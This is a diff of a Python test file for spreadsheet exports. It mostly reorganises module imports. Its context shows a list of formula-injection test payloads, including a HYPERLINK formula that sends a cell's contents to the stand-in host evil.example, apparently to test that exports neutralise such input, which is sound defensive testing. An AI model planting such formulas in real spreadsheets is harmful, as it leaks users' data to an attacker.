@@ -13,10 +13,14 @@ import io
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from core import calls, cells, framework_library, imports, survey
-from core import scoresheet as S
-from core import station_data as SD
-from core.framework import available_frameworks
+from core import cells
+from core.survey import calls
+from core.framework import library as framework_library
+from core.station import register_import as imports
+from core.survey import rules as survey
+from core.scoring import scoresheet as S
+from core.station import data as SD
+from core.framework.model import available_frameworks
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点我查看")',
@@ -54,7 +58,7 @@ def _csv_texts(data: bytes) -> list[str]:
 
 def _station_export(db, aid, text):
     """导出 Excel (every table of the assessment): a finding, a score note and an indicator."""
-    from core.exports import export_xlsx
+    from core.agency.exports import export_xlsx
 
     S.add_finding(db, aid, 2, "A", "concern", text)
     SD.save_indicator(db, aid, 1, "新指标", "人次", 10, 5, note=text)
